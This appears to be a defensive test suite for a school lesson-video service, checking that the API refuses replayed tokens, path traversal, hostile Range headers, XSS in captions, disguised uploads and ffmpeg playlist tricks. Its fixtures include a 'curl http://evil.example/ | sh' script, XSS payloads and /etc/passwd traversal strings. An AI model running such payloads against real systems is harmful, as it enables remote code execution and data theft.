/**
 * Lesson videos as an attacker tries them: other people's ids, replayed or guessed playback URLs,
 * hostile range headers, files that are not videos, tus requests on someone else's upload, ffmpeg
 * inputs that point at server files, and a district that turns video off.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { type Agent, agent, setupTestApp } from '#server/test/app.ts';
import { buildDistrict, buildUser, uniqueWord } from '#server/test/builders.ts';
import { ffmpegPath, probeVideo, transcodeArgs } from './ffmpeg.ts';
import {
  buildVideoWorld,
  createUpload,
  idOf,
  makeClip,
  patch,
  TUS,
  uploadReady as uploadVideo,
} from './test-support.ts';

const t = setupTestApp({ LOG_LEVEL: 'error' });

let clip: Buffer;
let dir: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'trellis-video-attacks-'));
  clip = makeClip(dir);
});

const uploadReady = (who: Agent) => uploadVideo(t, who, clip);
const world = () => buildVideoWorld(t);

const playUrl = async (who: Agent, id: string, kind = '720p') => {
  const started = await who.post(`/api/videos/${id}/playback`);
  expect(started.statusCode).toBe(200);
  const source = started.json().data.sources.find((s: { kind: string }) => s.kind === kind);
  return String(source.url);
};

describe('playback URLs', () => {
  it('work only for the person they were issued to, for the video and rendition they name', async () => {
    const w = await world();
    const id = await uploadReady(w.asTeacher);
    const other = await uploadReady(w.asTeacher);
    await w.asTeacher.post(`/api/videos/${id}/grants`, { userId: w.coach.id });
    const url = await playUrl(w.asCoach, id);
    const token = url.split('/')[3] as string;
    expect((await w.asCoach.get(url)).statusCode).toBe(200);
    // Replayed by anyone else, even the owner or an uninvited colleague, or with no session: 404.
    expect((await w.asColleague.get(url)).statusCode).toBe(404);
    expect((await w.asTeacher.get(url)).statusCode).toBe(404);
    expect((await agent(t).get(url)).statusCode).toBe(404);
    // Guessing: a token one character off, or one of another shape, is nothing.
    const flipped = `${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`;
    expect((await w.asCoach.get(url.replace(token, flipped))).statusCode).toBe(404);
    expect((await w.asCoach.get(`/api/video-files/${'a'.repeat(43)}/720p`)).statusCode).toBe(404);
    expect((await w.asCoach.get(`/api/video-files/..%2F..%2Fetc%2Fpasswd/720p`)).statusCode).not.toBe(200);
    // A token names one video: the owner's other video is not reachable through it.
    const own = await playUrl(w.asTeacher, other);
    expect((await w.asCoach.get(own)).statusCode).toBe(404);
    // Kinds outside the list are refused before anything is read.
    expect((await w.asCoach.get(url.replace(/720p$/, 'source'))).statusCode).toBe(400);
    expect((await w.asCoach.get(url.replace(/720p$/, '..%2Fsource'))).statusCode).toBe(400);
  });

  it('answer hostile range headers with one range, the whole file or 416, never more than the file', async () => {
    const w = await world();
    const id = await uploadReady(w.asTeacher);
    const url = await playUrl(w.asTeacher, id);
    const whole = await w.asTeacher.get(url);
    const size = whole.rawPayload.length;
    const get = (range: string) => w.asTeacher.request({ method: 'GET', url, headers: { range } });
    // Several ranges: no multipart answer, the file once.
    const several = await get('bytes=0-1,0-1,0-1,0-1,0-1,0-1');
    expect([200, 416]).toContain(several.statusCode);
    if (several.statusCode === 200) expect(several.rawPayload.length).toBe(size);
    // Past the end, reversed, empty suffix: 416 with the size.
    for (const range of [`bytes=${size}-`, 'bytes=99999999999999999999999-', 'bytes=20-10', 'bytes=-0']) {
      const answer = await get(range);
      expect(answer.statusCode, range).toBe(416);
      expect(answer.headers['content-range']).toBe(`bytes */${size}`);
    }
    // An end far past the file is cut to the file; a suffix longer than the file is the file.
    const huge = await get('bytes=10-99999999999999999999999');
    expect(huge.statusCode).toBe(206);
    expect(huge.rawPayload.length).toBe(size - 10);
    expect(huge.headers['content-range']).toBe(`bytes 10-${size - 1}/${size}`);
    const suffix = await get(`bytes=-${size * 10}`);
    expect(suffix.statusCode).toBe(206);
    expect(suffix.rawPayload.length).toBe(size);
    // Negative and malformed ranges are not ranges.
    for (const range of ['bytes=-5-3', 'bytes=--5', 'bytes=1e3-2e3', 'items=0-5', 'bytes=0x10-0x20']) {
      const answer = await get(range);
      expect(answer.statusCode, range).toBe(200);
      expect(answer.rawPayload.length).toBe(size);
    }
    expect(whole.headers['x-content-type-options']).toBe('nosniff');
    expect(whole.headers['content-disposition']).toBe('inline; filename="lesson.mp4"');
    expect(whole.headers['cache-control']).toMatch(/no-store/);
  });

  it('send hostile captions as sandboxed, unsniffed WebVTT text and cues, never as a page', async () => {
    const w = await world();
    const id = await uploadReady(w.asTeacher);
    const hostile = '<script>alert(1)</script><img src=x onerror=alert(2)>';
    const saved = await w.asTeacher.put(`/api/videos/${id}/captions`, {
      vtt: `WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n${hostile}`,
    });
    expect(saved.statusCode).toBe(200);
    const started = (await w.asTeacher.post(`/api/videos/${id}/playback`)).json().data;
    const captions = await w.asTeacher.get(started.captions);
    expect(captions.statusCode).toBe(200);
    expect(captions.headers['content-type']).toMatch(/^text\/vtt/);
    expect(captions.headers['x-content-type-options']).toBe('nosniff');
    expect(captions.headers['content-security-policy']).toMatch(/sandbox/);
    expect(captions.headers['content-disposition']).toMatch(/^inline; filename="captions.vtt"/);
    // The JSON the page renders carries the text as text, for the page to escape.
    expect(saved.headers['content-type']).toMatch(/application\/json/);
  });
});

describe('other people’s ids', () => {
  it('cannot touch another video’s comments or grants through one’s own video', async () => {
    const w = await world();
    const mine = await uploadReady(w.asColleague);
    const theirs = await uploadReady(w.asTeacher);
    const grant = (await w.asTeacher.post(`/api/videos/${theirs}/grants`, { userId: w.coach.id })).json()
      .data;
    const comment = (
      await w.asTeacher.post(`/api/videos/${theirs}/comments`, { atSeconds: 1, body: 'Private note' })
    ).json().data;
    // The colleague owns `mine`, and aims at the teacher's comment and grant through it.
    expect(
      (await w.asColleague.patch(`/api/videos/${mine}/comments/${comment.id}`, { body: 'changed' }))
        .statusCode,
    ).toBe(404);
    expect((await w.asColleague.delete(`/api/videos/${mine}/comments/${comment.id}`)).statusCode).toBe(404);
    expect((await w.asColleague.delete(`/api/videos/${mine}/grants/${grant.id}`)).statusCode).toBe(404);
    expect(
      (
        await w.asColleague.post(`/api/videos/${mine}/comments`, {
          atSeconds: 1,
          body: 'x',
          parentId: comment.id,
        })
      ).statusCode,
    ).toBe(400);
    // And straight at the teacher's video: 404, nothing changed.
    for (const answer of [
      await w.asColleague.delete(`/api/videos/${theirs}/grants/${grant.id}`),
      await w.asColleague.delete(`/api/videos/${theirs}/comments/${comment.id}`),
      await w.asColleague.patch(`/api/videos/${theirs}`, { title: 'Mine now' }),
      await w.asColleague.delete(`/api/videos/${theirs}`),
      await w.asColleague.put(`/api/videos/${theirs}/captions`, {
        vtt: 'WEBVTT\n\n00:00.000 --> 00:01.000\nx',
      }),
      await w.asColleague.post(`/api/videos/${theirs}/grants`, { userId: w.colleague.id }),
      await w.asColleague.get(`/api/videos/${theirs}/views`),
      await w.asColleague.get(`/api/videos/${theirs}/grants`),
      await w.asColleague.get(`/api/videos/${theirs}/captions`),
    ])
      expect(answer.statusCode).toBe(404);
    const { rows } = await t.database.db.execute<{ title: string; body: string; revoked: boolean }>(sql`
      select v.title, c.body, g.revoked_at is not null as revoked
        from videos v join video_comments c on c.video_id = v.id join video_grants g on g.video_id = v.id
       where v.id = ${theirs}`);
    expect(rows).toEqual([{ title: 'Fractions lesson', body: 'Private note', revoked: false }]);
    const captions = await t.database.db.execute(
      sql`select 1 from video_captions where video_id = ${theirs}`,
    );
    expect(captions.rows).toHaveLength(0);
  });

  it('never lets a tus request reach someone else’s upload, or a path outside the uploads', async () => {
    const w = await world();
    const created = await createUpload(w.asTeacher, clip.length);
    const id = idOf(created.headers.location);
    expect((await patch(w.asTeacher, id, 0, clip.subarray(0, 100))).statusCode).toBe(204);
    const head = (who: Agent, upload: string) =>
      who.request({ method: 'HEAD', url: `/api/video-uploads/${upload}`, headers: TUS });
    expect((await head(w.asColleague, id)).statusCode).toBe(404);
    expect((await patch(w.asColleague, id, 100, Buffer.alloc(50))).statusCode).toBe(404);
    expect(
      (await w.asColleague.request({ method: 'DELETE', url: `/api/video-uploads/${id}`, headers: TUS }))
        .statusCode,
    ).toBe(404);
    expect(Number((await head(w.asTeacher, id)).headers['upload-offset'])).toBe(100);
    // Ids that are not uploads' ids, however they are spelt, are not found (and never a server error).
    for (const bad of ['..%2F..%2F..%2Fetc%2Fpasswd', 'not-a-uuid', `${id}.json`, '%2e%2e'])
      expect((await head(w.asTeacher, bad)).statusCode, bad).toBe(404);
  });

  it('refuses SVG, script and playlists renamed as video, leaving nothing behind', async () => {
    const w = await world();
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'.padEnd(600),
    );
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/ | sh\n'.padEnd(600));
    const playlist = Buffer.from('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n'.padEnd(600));
    // An MP4 header in front of HTML: the container check passes, but ffmpeg finds no video.
    const disguised = Buffer.concat([
      clip.subarray(0, 32),
      Buffer.from('<html><script>x</script>'.padEnd(600)),
    ]);
    for (const [name, body] of Object.entries({ svg, script, playlist, disguised })) {
      const created = await createUpload(w.asTeacher, body.length, {
        filename: 'lesson.mp4',
        filetype: 'video/mp4',
        title: `<img src=x onerror=alert(1)> ${name}`,
      });
      expect(created.statusCode, name).toBe(201);
      const id = idOf(created.headers.location);
      expect((await patch(w.asTeacher, id, 0, body)).statusCode, name).toBe(415);
      expect((await w.asTeacher.get(`/api/videos/${id}`)).statusCode).toBe(404);
      expect(existsSync(path.join(t.config.dataDir, 'files', 'video-uploads', id))).toBe(false);
      expect(existsSync(path.join(t.config.dataDir, 'files', 'videos', id))).toBe(false);
    }
  });

  it('refuses tus metadata that is not a title, and an upload larger than allowed', async () => {
    const w = await world();
    expect((await createUpload(w.asTeacher, 10, { title: 'x'.repeat(5000) })).statusCode).toBe(400);
    expect((await createUpload(w.asTeacher, 10, { title: '\u0000\u0007' })).statusCode).toBe(400);
    expect((await createUpload(w.asTeacher, t.config.VIDEO_UPLOAD_MAX_BYTES + 1)).statusCode).toBe(413);
    const { rows } = await t.database.db.execute(sql`select 1 from videos where owner_id = ${w.teacher.id}`);
    expect(rows).toHaveLength(0);
  });
});

describe('ffmpeg on untrusted input', () => {
  it('reads only MP4/QuickTime and Matroska/WebM, so a playlist inside an input cannot open server files', async () => {
    // A file on the server that a playlist names, as an attacker would hope ffmpeg reads it.
    const secret = path.join(dir, 'secret.ts');
    execFileSync(ffmpegPath, [
      '-nostdin',
      '-loglevel',
      'error',
      '-f',
      'lavfi',
      '-i',
      'testsrc=duration=1:size=160x120:rate=10',
      '-c:v',
      'libx264',
      '-preset',
      'ultrafast',
      '-f',
      'mpegts',
      '-y',
      secret,
    ]);
    const playlist = path.join(dir, 'evil.mp4');
    writeFileSync(playlist, `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${secret}\n#EXT-X-ENDLIST\n`);
    const concat = path.join(dir, 'evil.mov');
    writeFileSync(concat, `ffconcat version 1.0\nfile ${secret}\n`);
    expect(await probeVideo(playlist)).toBeNull();
    expect(await probeVideo(concat)).toBeNull();
    // The real thing still reads, and every command carries the same limits.
    expect(await probeVideo(path.join(dir, 'lesson.mp4'))).toMatchObject({ hasVideo: true, hasAudio: true });
    for (const kind of ['720p', '360p', 'poster', 'clip'] as const) {
      const { args } = transcodeArgs({ source: 'in', target: 'out', kind });
      const joined = args.join(' ');
      expect(joined).toMatch(/-protocol_whitelist file,pipe/);
      expect(joined).toMatch(/-format_whitelist \S+/);
      expect(args.indexOf('-format_whitelist')).toBeLessThan(args.indexOf('-i'));
      expect(joined).toMatch(/nice -n 19/);
      expect(joined).toMatch(/-threads 1/);
    }
  });
});

describe('a district that turns video off', () => {
  it('stops every share of its teachers’ videos at the next request, and refuses new ones', async () => {
    const w = await world();
    const id = await uploadReady(w.asTeacher);
    await w.asTeacher.post(`/api/videos/${id}/grants`, { userId: w.peer.id });
    const url = await playUrl(w.asPeer, id);
    expect((await w.asPeer.request({ method: 'GET', url, headers: { range: 'bytes=0-9' } })).statusCode).toBe(
      206,
    );
    await t.database.db.execute(sql`
      insert into district_video_policies (district_id, video_allowed) values (${w.north.id}, false)`);
    expect(
      (await w.asPeer.request({ method: 'GET', url, headers: { range: 'bytes=10-19' } })).statusCode,
    ).toBe(404);
    expect((await w.asPeer.get(`/api/videos/${id}`)).statusCode).toBe(404);
    expect((await w.asPeer.post(`/api/videos/${id}/playback`)).statusCode).toBe(404);
    const list = (await w.asPeer.get('/api/videos?whose=all')).json().data;
    expect(list.map((v: { id: string }) => v.id)).not.toContain(id);
    // The owner keeps their own video, to watch and delete.
    expect((await w.asTeacher.get(`/api/videos/${id}`)).statusCode).toBe(200);
  });

  it('refuses to share a video while the district does not allow video', async () => {
    const w = await world();
    const id = await uploadReady(w.asTeacher);
    await t.database.db.execute(sql`
      insert into district_video_policies (district_id, video_allowed) values (${w.north.id}, false)`);
    const refused = await w.asTeacher.post(`/api/videos/${id}/grants`, { userId: w.peer.id });
    expect([400, 403]).toContain(refused.statusCode);
    const { rows } = await t.database.db.execute(sql`select 1 from video_grants where video_id = ${id}`);
    expect(rows).toHaveLength(0);
  });
});

describe('the community library', () => {
  it('lists only clips its member may still play', async () => {
    const w = await world();
    const id = await uploadReady(w.asTeacher);
    const { buildCommunity } = await import('#server/test/community-builders.ts');
    const community = await buildCommunity(t.database.db, {
      createdBy: w.teacher.id,
      districtId: w.north.id,
      ownerKind: 'district',
      ownerId: w.north.id,
      members: [{ userId: w.teacher.id, role: 'facilitator' }, { userId: w.colleague.id }],
    });
    const shared = await w.asTeacher.post(`/api/communities/${community.id}/video-clips`, {
      videoId: id,
      title: 'Think-pair-share',
      clip: { start: 0.5, end: 1.5 },
    });
    expect(shared.statusCode).toBe(201);
    const listed = async () =>
      (await w.asColleague.get(`/api/communities/${community.id}/video-clips`))
        .json()
        .data.map((c: { videoId: string }) => c.videoId);
    expect(await listed()).toContain(id);
    // The teacher's district turns video off: the member can no longer play it, nor see it listed.
    await t.database.db.execute(sql`
      insert into district_video_policies (district_id, video_allowed) values (${w.north.id}, false)`);
    expect((await w.asColleague.get(`/api/videos/${id}`)).statusCode).toBe(404);
    expect(await listed()).not.toContain(id);
    await t.database.db.execute(sql`delete from district_video_policies where district_id = ${w.north.id}`);
    // The teacher stops the share from the video's own sharing panel: the same.
    const grants = (await w.asTeacher.get(`/api/videos/${id}/grants`)).json().data;
    for (const grant of grants) await w.asTeacher.delete(`/api/videos/${id}/grants/${grant.id}`);
    expect((await w.asColleague.get(`/api/videos/${id}`)).statusCode).toBe(404);
    expect(await listed()).not.toContain(id);
  });
});

describe('sharing with people and communities', () => {
  it('shares only with people of the owner’s district or network, answering unknown and unreachable ids alike', async () => {
    const w = await world();
    const id = await uploadReady(w.asTeacher);
    const elsewhere = await buildDistrict(t.database.db);
    const stranger = await buildUser(t.database.db, {
      districtId: elsewhere.id,
      name: `Sam ${uniqueWord()}`,
    });
    const unreachable = await w.asTeacher.post(`/api/videos/${id}/grants`, { userId: stranger.id });
    const unknown = await w.asTeacher.post(`/api/videos/${id}/grants`, {
      userId: '01890000-0000-7000-8000-000000000000',
    });
    expect(unreachable.statusCode).toBe(400);
    expect(unknown.statusCode).toBe(400);
    expect(unreachable.json().errors).toEqual(unknown.json().errors);
    expect(unreachable.json().detail).toBe(unknown.json().detail);
    expect(unreachable.json().errors[0].path).toBe('/body/userId');
    // Someone of the network is fine.
    expect((await w.asTeacher.post(`/api/videos/${id}/grants`, { userId: w.coach.id })).statusCode).toBe(201);
    const { rows } = await t.database.db.execute(
      sql`select 1 from video_grants where video_id = ${id} and user_id = ${stranger.id}`,
    );
    expect(rows).toHaveLength(0);
  });

  it('shares only with communities the owner is an active member of, answering unknown ones alike', async () => {
    const w = await world();
    const id = await uploadReady(w.asTeacher);
    const { buildCommunity } = await import('#server/test/community-builders.ts');
    const theirs = await buildCommunity(t.database.db, {
      createdBy: w.colleague.id,
      districtId: w.north.id,
      ownerKind: 'district',
      ownerId: w.north.id,
      members: [{ userId: w.colleague.id, role: 'facilitator' }],
    });
    const mine = await buildCommunity(t.database.db, {
      createdBy: w.teacher.id,
      districtId: w.north.id,
      ownerKind: 'district',
      ownerId: w.north.id,
      members: [{ userId: w.teacher.id, role: 'facilitator' }, { userId: w.colleague.id }],
    });
    const notMember = await w.asTeacher.post(`/api/videos/${id}/grants`, { communityId: theirs.id });
    const unknown = await w.asTeacher.post(`/api/videos/${id}/grants`, {
      communityId: '01890000-0000-7000-8000-000000000000',
    });
    expect(notMember.statusCode).toBe(400);
    expect(unknown.statusCode).toBe(400);
    expect(notMember.json().errors).toEqual(unknown.json().errors);
    expect(notMember.json().errors[0].path).toBe('/body/communityId');
    expect((await w.asTeacher.post(`/api/videos/${id}/grants`, { communityId: mine.id })).statusCode).toBe(
      201,
    );
  });
});

describe('moving a comment', () => {
  it('keeps it within the video, and within the clip of a viewer who sees only a clip', async () => {
    const w = await world();
    const id = await uploadReady(w.asTeacher);
    const own = (
      await w.asTeacher.post(`/api/videos/${id}/comments`, { atSeconds: 0.5, body: 'Wait time' })
    ).json().data;
    const far = await w.asTeacher.patch(`/api/videos/${id}/comments/${own.id}`, { atSeconds: 500 });
    expect(far.statusCode).toBe(400);
    expect(far.json().errors[0].path).toBe('/body/atSeconds');
    expect(
      (await w.asTeacher.patch(`/api/videos/${id}/comments/${own.id}`, { atSeconds: 1.5 })).statusCode,
    ).toBe(200);
    await w.asTeacher.post(`/api/videos/${id}/grants`, { userId: w.coach.id, clip: { start: 0.5, end: 1 } });
    const theirs = (
      await w.asCoach.post(`/api/videos/${id}/comments`, { atSeconds: 0.2, body: 'Nice' })
    ).json().data;
    // Within the video, but past the end of the coach's half-second clip.
    const past = await w.asCoach.patch(`/api/videos/${id}/comments/${theirs.id}`, { atSeconds: 1.5 });
    expect(past.statusCode).toBe(400);
    expect(past.json().errors[0].path).toBe('/body/atSeconds');
    const { rows } = await t.database.db.execute<{ at_seconds: number }>(
      sql`select at_seconds from video_comments where id = ${theirs.id}`,
    );
    expect(Number(rows[0]?.at_seconds)).toBeCloseTo(0.7);
  });
});

describe('deleting a video', () => {
  it('leaves no rendition behind when the video is deleted while it is being converted', async () => {
    const w = await world();
    const created = await createUpload(w.asTeacher, clip.length);
    const id = idOf(created.headers.location);
    expect((await patch(w.asTeacher, id, 0, clip)).statusCode).toBe(204);
    const folder = path.join(t.config.dataDir, 'files', 'videos', id);
    const { transcodeVideo } = await import('./transcode.ts');
    const converting = transcodeVideo(t.app, id).catch(() => undefined);
    // As soon as ffmpeg writes its first rendition, the teacher deletes the video.
    const partial = path.join(folder, '720p.mp4.partial');
    for (let i = 0; i < 2000 && !existsSync(partial); i++) await new Promise((r) => setTimeout(r, 5));
    expect((await w.asTeacher.delete(`/api/videos/${id}`)).statusCode).toBe(204);
    await converting;
    const { readdirSync } = await import('node:fs');
    const left = existsSync(folder) ? readdirSync(folder) : [];
    expect(left).toEqual([]);
  });
});
